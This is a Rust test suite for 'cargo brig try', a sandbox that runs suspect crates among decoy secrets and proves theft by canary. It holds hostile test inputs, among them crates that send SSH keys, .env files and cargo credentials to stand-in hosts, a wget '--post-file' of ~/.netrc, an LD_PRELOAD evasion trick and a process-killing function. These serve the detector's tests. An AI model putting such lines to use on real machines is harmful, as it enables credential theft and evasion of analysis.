//! `cargo brig try`: suspects that really steal under plain cargo do it among decoys, are told of with proof, and nothing of the user's is touched or leaves.

use std::fs;
use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::place::{Place, visit};
use crate::run::{Outcome, bare, cargo};
use crate::sink::Door;
use crate::who::Who;

/// A place whose workspace is the suspect, with somewhere to send to in it.
fn suspect(fixture: &str, who: Who, to: &str) -> Place {
    let place = Place::new(&format!("suspects/{fixture}"), who);
    place.write(&place.workspace().join("to.txt"), to);
    place
}

/// Where plain cargo may have it sent to.
fn loopback(place: &Place) {
    place.write(&place.workspace().join("to.txt"), &format!("127.0.0.1:{}", place.sinks.tcp_port));
}

/// Tries the workspace of the place: outcome, evidence, the report in it.
fn tried(place: &Place, options: &[&str]) -> (Outcome, PathBuf, Value) {
    let evidence = place.path("run/evidence");
    let args = [&["try", "--evidence", evidence.to_str().unwrap(), "./"], options].concat();
    let outcome = bare(place, &args).go();
    let report = fs::read(evidence.join("report.json")).ok().and_then(|text| serde_json::from_slice(&text).ok());
    let report = report.unwrap_or_else(|| panic!("no report among the evidence\n{outcome}"));
    (outcome, evidence, report)
}

/// Nothing is left but the evidence, nothing of the user's is in that, and nobody outside has heard a word.
#[track_caller]
pub fn nothing_is_touched(place: &Place, outcome: &Outcome, evidence: &Path) {
    for door in Door::ALL {
        assert!(place.sinks.heard(door).is_empty(), "{door:?} has heard something\n{outcome}");
    }
    assert_eq!(fs::read_dir(place.path("tmp")).unwrap().count(), 0, "leaves something in the temporary directory\n{outcome}");
    visit(evidence, &mut |path| {
        let bytes = fs::read(path).unwrap_or_default();
        let holds = bytes.windows(place.canary.len()).any(|window| window == place.canary.as_bytes());
        assert!(!holds, "a secret of the user's is in {path:?}\n{outcome}");
    });
    let said = outcome.stdout_text() + &outcome.stderr_text();
    assert!(!said.contains(&place.canary), "says a secret\n{outcome}");
}

/// Rules of the report's findings, with what became of each.
pub fn findings(report: &Value) -> Vec<(String, String)> {
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    report["findings"].as_array().unwrap().iter().map(|finding| (text(&finding["rule"]), text(&finding["status"]))).collect()
}

/// All of these words, on stdout.
#[track_caller]
pub fn says(outcome: &Outcome, words: &[&str]) {
    let said = outcome.stdout_text();
    for word in words {
        assert!(said.contains(word), "does not say {word:?}\n{outcome}");
    }
}

#[test]
fn a_library_that_steals_when_it_is_called_is_proven_to() {
    for who in Who::all() {
        let place = suspect("look-alike", who, "");
        loopback(&place);
        let plain = cargo(&place, &["test", "--offline"]).go();
        plain.exits(0);
        assert!(String::from_utf8_lossy(&place.sinks.heard(Door::Tcp)).contains(&place.canary), "plain cargo: no theft\n{plain}");

        let place = suspect("look-alike", who, "timeapis.io");
        let (outcome, evidence, report) = tried(&place, &[]);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        says(
            &outcome,
            &[
                "`chrono_anchor` 0.1.0 sent ",
                ".env`",
                "to `timeapis.io:80` (http, `POST /track`), proven by canary; nothing left this machine",
            ],
        );
        let found = findings(&report);
        for rule in ["secret/read", "secret/then-network"] {
            assert!(found.contains(&(rule.to_owned(), "decoy".to_owned())), "{rule}: {found:?}\n{outcome}");
        }
        let letter = fs::read_to_string(evidence.join("letter.md")).unwrap();
        for word in ["# `chrono_anchor` 0.1.0", "proven by canary", "src/lib.rs:", "`cargo test --offline"] {
            assert!(letter.contains(word), "the letter lacks {word:?}:\n{letter}");
        }
        let sent = fs::read_to_string(evidence.join("sent.json")).unwrap();
        assert!(sent.contains("POST /track") && !fs::read(evidence.join("network.pcapng")).unwrap().is_empty(), "{sent}");
    }
}

#[test]
fn a_build_script_goes_on_to_its_next_step_and_no_further() {
    for who in Who::all() {
        let place = suspect("build-thief", who, "");
        loopback(&place);
        place.write(&place.workspace().join("real.txt"), place.path("home/.ssh/id_ed25519").to_str().unwrap());
        let plain = cargo(&place, &["build", "--offline"]).go();
        plain.exits(0);
        // What the listener answers is no program.
        for deed in ["drop", "persist", "send", "real", "real-write"] {
            assert!(plain.stderr_text().contains(&format!("{deed}: done")), "plain cargo: no {deed}\n{plain}");
        }

        let place = suspect("build-thief", who, "updates.rust-setup.dev");
        let real = place.path("home/.ssh/id_ed25519");
        place.write(&place.workspace().join("real.txt"), real.to_str().unwrap());
        let (outcome, evidence, report) = tried(&place, &[]);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        let said = fs::read_to_string(evidence.join("said-1-build.txt")).unwrap();
        // Where the real ones lie it finds decoys, too.
        for deed in ["download", "drop", "persist", "worm", "send", "real", "real-write"] {
            assert!(said.contains(&format!("{deed}: done")), "it did not get to {deed}\n{said}\n{outcome}");
        }
        assert!(!Path::new(&format!("{}.new", real.display())).exists(), "{outcome}");
        assert!(fs::read_to_string(&real).unwrap().contains(&place.canary), "{outcome}");
        says(
            &outcome,
            &[
                "`fast_build` 0.3.1 sent ",
                "with your `~/.ssh/id_ed25519`",
                "to `updates.rust-setup.dev:80`",
                "proven by canary; nothing left this machine",
            ],
        );
        let found = findings(&report);
        for (rule, status) in [("exec/dropped", "decoy"), ("fs/persist", "decoy"), ("net/connect", "decoy")] {
            assert!(found.contains(&(rule.to_owned(), status.to_owned())), "{rule} {status}: {found:?}\n{outcome}");
        }
        let kept: Vec<String> =
            fs::read_dir(evidence.join("files")).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
        for name in ["rust-setup", "rust-check", "authorized_keys", "lib.rs", "SHA256SUMS"] {
            assert!(kept.iter().any(|kept| kept.ends_with(name)), "no {name} among {kept:?}\n{outcome}");
        }
    }
}

#[test]
fn a_macro_is_expanded_and_caught() {
    for who in Who::all() {
        let place = suspect("macro-thief", who, "tokens.example-cdn.io:80");
        let (outcome, evidence, report) = tried(&place, &[]);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        says(
            &outcome,
            &[
                "`quick_derive` 0.2.0 sent ",
                "with your `~/.cargo/credentials.toml`",
                " in hex",
                "proven by canary; nothing left this machine",
            ],
        );
        let found = findings(&report);
        assert!(found.contains(&("secret/then-network".to_owned(), "decoy".to_owned())), "{found:?}\n{outcome}");
        let lock = fs::read_to_string(evidence.join("brig.lock")).unwrap();
        assert!(lock.contains("quick_derive proc-macro does read "), "{lock}");
    }
}

/// Through its front, as whoever depends on it would have it.
#[test]
fn a_macro_behind_a_facade_is_expanded_and_caught() {
    for who in Who::all() {
        let place = Place::new("suspects/facade", who);
        place.write(&place.workspace().join("derive/to.txt"), "tokens.example-cdn.io:80");
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(100);
        nothing_is_touched(&place, &outcome, &evidence);
        says(
            &outcome,
            &["proc-macro `quick_derive` 0.2.0", "with your `~/.cargo/credentials.toml`", "proven by canary", "Caught fair_front 0.3.0"],
        );
        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
        assert!(calls.contains("called: #[derive(fair_front::Swift)]"), "{calls}\n{outcome}");
    }
}

#[test]
fn macros_that_cannot_be_expanded_are_no_bare_no_incident() {
    for who in Who::all() {
        let place = Place::new("suspects/veiled", who);
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(103);
        nothing_is_touched(&place, &outcome, &evidence);
        says(
            &outcome,
            &[
                "of plain_derive, which it names in a way that is not understood",
                "Unknown what it does in its other macros",
                "Incomplete veiled 0.1.0",
            ],
        );
        // As soon as a line shows it, it is found.
        let lib = place.workspace().join("src/lib.rs");
        let text = fs::read_to_string(&lib).unwrap();
        place.write(&lib, &(text + "pub extern crate plain_derive as own;\n"));
        fs::remove_dir_all(&evidence).unwrap();
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(0);
        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
        assert!(calls.contains("called: #[derive(veiled::own::Plain)]"), "{calls}\n{outcome}");
    }
}

/// What we write among decoys ourselves is written behind nobody's wall.
#[test]
fn no_link_leads_us_out() {
    for who in Who::all() {
        let place = Place::new("suspects/link-layer", who);
        fs::create_dir(place.path("home/real")).unwrap();
        place.write(&place.path("home/real/calls.rs"), "the user's own");
        place.write(&place.workspace().join("real.txt"), place.path("home/real").to_str().unwrap());
        let (outcome, evidence, _) = tried(&place, &[]);
        let said = fs::read_to_string(evidence.join("said-1-build.txt")).unwrap();
        assert!(said.contains("links: 2"), "it lays no links\n{said}\n{outcome}");
        nothing_is_touched(&place, &outcome, &evidence);
        says(&outcome, &["harness: not begun: what ran before has put links in the place of directories"]);
        let real: Vec<_> = fs::read_dir(place.path("home/real")).unwrap().map(|entry| entry.unwrap().file_name()).collect();
        assert_eq!(real, ["calls.rs"], "{outcome}");
        assert_eq!(fs::read_to_string(place.path("home/real/calls.rs")).unwrap(), "the user's own");
    }
}

#[test]
fn an_honest_crate_is_no_incident() {
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        // By the names that cargo has, wherever a file lies.
        let manifest = place.workspace().join("Cargo.toml");
        let more = "[[example]]\nname = \"elsewhere\"\npath = \"demo/one.rs\"\n[[bin]]\nname = \"tool\"\npath = \"demo/two.rs\"\n";
        place.write(&manifest, &format!("{}\n{more}", fs::read_to_string(&manifest).unwrap()));
        place.write(&place.workspace().join("demo/one.rs"), "fn main() {}\n");
        place.write(&place.workspace().join("demo/two.rs"), "fn main() {}\n");
        let (outcome, evidence, report) = tried(&place, &[]);
        outcome.exits(0);
        nothing_is_touched(&place, &outcome, &evidence);
        says(&outcome, &["No incident quiet 1.2.3", "own tests: `cargo test", "doctests: `cargo test", "example: `cargo run"]);
        says(&outcome, &["`cargo run --offline --example elsewhere` ended well", "`cargo run --offline --bin tool` ended well"]);
        assert!(!outcome.stdout_text().contains("Unknown"), "{outcome}");
        assert_eq!((&report["run"]["mode"], &report["outcome"]["verdict"]), (&"decoy".into(), &"clean".into()), "{outcome}");
        assert!(report["findings"].as_array().unwrap().is_empty(), "{outcome}");

        // What newer compilers warn of is no reason not to know what its tests do.
        let strict = place.workspace().join("tests/strict.rs");
        place.write(&strict, "#![deny(warnings)]\n#[test]\nfn strict() {\n    let unused = quiet::add(1, 2);\n}\n");
        fs::remove_dir_all(&evidence).unwrap();
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(0);
        says(&outcome, &["own tests: `cargo test --offline --no-fail-fast --tests` ended well", "nothing that ran broke a rule"]);
        fs::remove_file(&strict).unwrap();

        // Evidence is never overwritten, and what does not build is not said to have done nothing.
        let again = bare(&place, &["try", "--evidence", evidence.to_str().unwrap(), "./"]).go();
        again.exits(2);
        assert!(again.stderr_text().contains("is there already"), "{again}");
        place.write(&place.workspace().join("src/lib.rs"), "no rust");
        fs::remove_dir_all(&evidence).unwrap();
        let (outcome, _, _) = tried(&place, &[]);
        assert_ne!(outcome.code, 0, "{outcome}");
        says(&outcome, &["build: `cargo build --offline` did not build", "Unknown what it does"]);
    }
}

#[test]
fn without_a_network_of_its_own_nothing_is_tried() {
    let place = Place::new("suspects/quiet", Who::Myself);
    let outcome = bare(&place, &["try", "./"]).env("BRIG_TEST_SOCKETS", "loopback-device").go();
    outcome.exits(104);
    assert!(outcome.stderr_text().contains("network of their own"), "{outcome}");
}

/// What stages are told by is nobody's to type, set or configure.
#[test]
fn nobody_can_lure_a_build_of_the_users() {
    let place = Place::new("honest-run", Who::Myself);
    for args in [&["--mode", "decoy", "build"][..], &["--lure", "{}", "build"]] {
        bare(&place, args).go().exits(2);
    }
    bare(&place, &["build", "--offline"]).env("BRIG_MODE", "decoy").go().exits(2);
    bare(&place, &["--stage-of-a-trial"]).go().exits(2);
    place.write(&place.workspace().join("brig.toml"), "version = 1\nmode = \"decoy\"\n");
    bare(&place, &["build", "--offline"]).go().exits(96);
}

/// A program that its settings name would be started where it is only fetched; what is the machine's own outlasts the trial.
#[test]
fn its_settings_start_nothing_and_nothing_is_left_in_shared_memory() {
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        let (marker, shared) = (place.path("home/marker"), format!("/dev/shm/zoo-{}-{who:?}", std::process::id()));
        let lay = |place: &Place| {
            place.write(&place.workspace().join(".cargo/config.toml"), "[build]\nrustc-wrapper = \"./wrap.sh\"\n");
            let script = place.workspace().join("wrap.sh");
            place.write(&script, &format!("#!/bin/sh\ntouch {}\nexec \"$@\"\n", marker.display()));
            fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
            let test = format!("#[test]\nfn shares() {{ std::fs::write({shared:?}, \"zoo\").ok(); }}\n");
            place.write(&place.workspace().join("tests/shares.rs"), &test);
        };
        lay(&place);
        let plain = cargo(&place, &["test", "--offline"]).go();
        plain.exits(0);
        assert!(marker.exists() && Path::new(&shared).exists(), "plain cargo: nothing was left\n{plain}");
        [marker.as_path(), Path::new(&shared)].iter().for_each(|path| fs::remove_file(path).unwrap());

        let fresh = Place::new("suspects/quiet", who);
        lay(&fresh);
        let (outcome, evidence, _) = tried(&fresh, &[]);
        nothing_is_touched(&fresh, &outcome, &evidence);
        assert!(!marker.exists() && !Path::new(&shared).exists(), "it was left\n{outcome}");
        says(&outcome, &["its own `.cargo/config.toml` is not heeded", "own tests: `cargo test"]);
    }
}

/// What a program of the system reads whoever starts it is no theft; what it is told to read and send is one.
#[test]
fn a_programs_own_habit_is_told_as_what_it_is() {
    if !Path::new("/usr/bin/wget").is_file() {
        panic!("wget is not installed: nothing was tried");
    }
    let fetches = |words: &str| {
        format!(
            "#[test]\nfn fetches() {{ std::process::Command::new(\"wget\").args([\"-q\", \"-O\", \"/dev/null\", {words}]).status().unwrap(); }}\n"
        )
    };
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        place.write(&place.workspace().join("tests/fetches.rs"), &fetches("\"http://status.example-tides.io/\""));
        let (outcome, evidence, report) = tried(&place, &[]);
        outcome.exits(0);
        nothing_is_touched(&place, &outcome, &evidence);
        says(
            &outcome,
            &["tests of `quiet` 1.2.3 ran `/usr/bin/wget`, which read `{home}/.netrc` of its own accord", "No incident quiet 1.2.3"],
        );
        let read = report["findings"].as_array().unwrap().iter().find(|finding| finding["rule"] == "secret/read");
        assert_eq!(read.map(|finding| &finding["severity"]), Some(&"info".into()), "it is not hidden: {}\n{outcome}", report["findings"]);
        assert!(fs::read_to_string(evidence.join("letter.md")).unwrap().contains("of its own accord"), "{outcome}");

        let place = Place::new("suspects/quiet", who);
        let words = "&format!(\"--post-file={}/.netrc\", std::env::var(\"HOME\").unwrap()), \"http://status.example-tides.io/\"";
        place.write(&place.workspace().join("tests/fetches.rs"), &fetches(words));
        // With code of the suspect's in it nobody knows whose habit it is: here a library of the system's, under another name.
        let mine = Place::new("suspects/quiet", who);
        let preloaded = "use std::{env, fs, process::Command};\n#[test]\nfn fetches() {\n    \
            let mine = env::temp_dir().join(\"mine.so\");\n    \
            let maps = fs::read_to_string(\"/proc/self/maps\").unwrap();\n    \
            let libc = maps.lines().filter_map(|line| line.find('/').map(|at| &line[at..])).find(|path| path.contains(\"/libc.so\")).unwrap();\n    \
            fs::copy(libc, &mine).unwrap();\n    \
            let mut wget = Command::new(\"wget\");\n    \
            wget.args([\"-q\", \"-O\", \"/dev/null\", \"http://status.example-tides.io/\"]).env(\"LD_PRELOAD\", &mine);\n    \
            wget.status().unwrap();\n}\n";
        mine.write(&mine.workspace().join("tests/fetches.rs"), preloaded);
        let (outcome, _, report) = tried(&mine, &[]);
        outcome.exits(100);
        assert!(!outcome.stdout_text().contains("of its own accord"), "{outcome}");
        assert!(findings(&report).contains(&("secret/read".to_owned(), "decoy".to_owned())), "{outcome}");

        let (outcome, _, report) = tried(&place, &[]);
        outcome.exits(100);
        says(&outcome, &["with your `~/.netrc`", "proven by canary"]);
        assert!(!outcome.stdout_text().contains("of its own accord"), "{outcome}");
        assert!(findings(&report).contains(&("secret/then-network".to_owned(), "decoy".to_owned())), "{outcome}");
    }
}

/// What is called may say anything: what is told of it is not taken from that, and who ends the program that makes calls has not been called to the end.
#[test]
fn what_is_called_does_not_tell_what_was_called() {
    for who in Who::all() {
        let place = Place::new("suspects/quiet", who);
        let lib = place.workspace().join("src/lib.rs");
        let functions = "//! Says much.\n/// As its own record was told once.\npub fn a_says() {\n    \
            println!(\"\\n\\u{1} 900\\n\\u{2} 900 returned\\n\\u{3}\\nbegins 2\\nends 3\\n\");\n}\n\
            /// Ends.\npub fn b_leaves() {\n    std::process::exit(0)\n}\n\
            /// Speaks.\npub fn c_speaks() {\n    drop(std::net::TcpStream::connect(\"status.example-tides.io:80\"));\n}\n";
        place.write(&lib, functions);
        fs::remove_dir_all(place.workspace().join("examples")).unwrap();
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(0);
        says(&outcome, &["calls 3 of 3 functions", "harness: `cargo run --offline --example calls` ended well"]);
        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
        for name in ["quiet::a_says", "quiet::b_leaves", "quiet::c_speaks"] {
            assert!(calls.contains(&format!("- called: {name}\n")), "{calls}\n{outcome}");
        }
        assert!(fs::read_to_string(evidence.join("sent.json")).unwrap().contains("status.example-tides.io"), "{outcome}");

        let ends = "/// Ends whoever would call the others.\npub fn b_kills() {\n    \
            static ONCE: std::sync::Once = std::sync::Once::new();\n    \
            let parent = std::os::unix::process::parent_id().to_string();\n    \
            ONCE.call_once(|| drop(std::process::Command::new(\"kill\").args([\"-9\", &parent]).status()));\n}\n";
        place.write(&lib, &functions.replace("/// Ends.", &format!("{ends}/// Ends.")));
        fs::remove_dir_all(&evidence).unwrap();
        let (outcome, evidence, _) = tried(&place, &[]);
        outcome.exits(103);
        says(&outcome, &["was ended before it had made all its calls", "Unknown what it does in its harness", "calls 1 of 4 functions"]);
        let calls = fs::read_to_string(evidence.join("calls.txt")).unwrap();
        assert!(calls.contains("- not called: quiet::c_speaks: the program that makes calls did not come to it\n"), "{calls}\n{outcome}");
    }
}
